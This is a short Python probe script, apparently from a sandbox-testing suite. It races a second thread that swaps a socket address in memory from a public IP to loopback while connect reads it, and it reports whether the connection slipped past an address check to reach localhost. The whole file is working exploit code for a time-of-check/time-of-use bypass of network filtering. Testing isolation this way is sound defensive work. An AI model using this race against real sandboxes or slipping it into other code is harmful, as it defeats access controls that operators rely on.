"""Change the address in memory from a public one to loopback while `connect` reads it."""

import ctypes
import socket
import struct
import threading

from probe import libc, tried

TRIES_COUNT = 500


def run(port):
    public = struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton("93.184.215.14")
    private = struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton("127.0.0.1")
    room = ctypes.create_string_buffer(public + b"\0" * 8, 16)
    is_over = threading.Event()

    def change():
        while not is_over.is_set():
            ctypes.memmove(room, private, 8)
            ctypes.memmove(room, public, 8)

    def raced():
        for _ in range(TRIES_COUNT):
            with socket.socket() as link:
                if libc.connect(link.fileno(), room, 16) == 0:
                    peer = link.getpeername()[0]
                    if peer != "93.184.215.14":
                        return peer
        raise PermissionError(1, "never there")

    socket.create_connection(("93.184.215.14", port), timeout=5).close()
    thread = threading.Thread(target=change, daemon=True)
    thread.start()
    told = tried(raced)
    is_over.set()
    thread.join()
    return {"raced": told}
